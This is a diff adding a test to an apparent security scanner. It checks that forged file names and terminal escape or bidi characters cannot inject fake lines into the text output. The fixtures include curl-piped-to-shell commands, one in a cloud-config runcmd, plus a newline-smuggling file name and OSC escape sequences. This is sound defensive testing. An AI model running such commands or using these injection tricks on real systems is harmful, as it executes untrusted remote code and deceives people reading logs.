@@ -515,3 +515,18 @@ describe('scripts and units are read with the lifecycle of what runs them, acros
     assert.equal(result.relatedLocations[0].physicalLocation.region.startLine, 8);
   });
 });
+
+describe('input cannot forge or drive the text output', () => {
+  const scratch = mkdtempSync(path.join(tmpdir(), 'hindsight-forge-'));
+  after(() => rmSync(scratch, { recursive: true, force: true }));
+
+  it('a newline in a file name and terminal escapes in content are written as escapes', () => {
+    writeFile(path.join(scratch, 'x\nuser-data:1:1 error fake-rule forged'), '#cloud-config\nruncmd:\n  - curl -s https://example.com/i.sh | sh\n');
+    writeFile(path.join(scratch, 'user-data.sh'), '#!/bin/sh\ncurl -s "https://example.com/\u001b]0;pwned\u0007\u202e" | sh\n');
+    const { stdout } = hindsight(['scan', '.'], scratch);
+    assert.doesNotMatch(stdout, /^user-data:1:1 error fake-rule/m, 'no forged line');
+    assert.match(stdout, /^x\\nuser-data:1:1 error fake-rule forged:3:5 warning remote-script-piped-to-shell /m);
+    assert.doesNotMatch(stdout, /[\u001b\u0007\u202e]/, 'no raw control or bidi characters');
+    assert.match(stdout, /\\x1b\]0;pwned\\x07\\u202e/);
+  });
+});
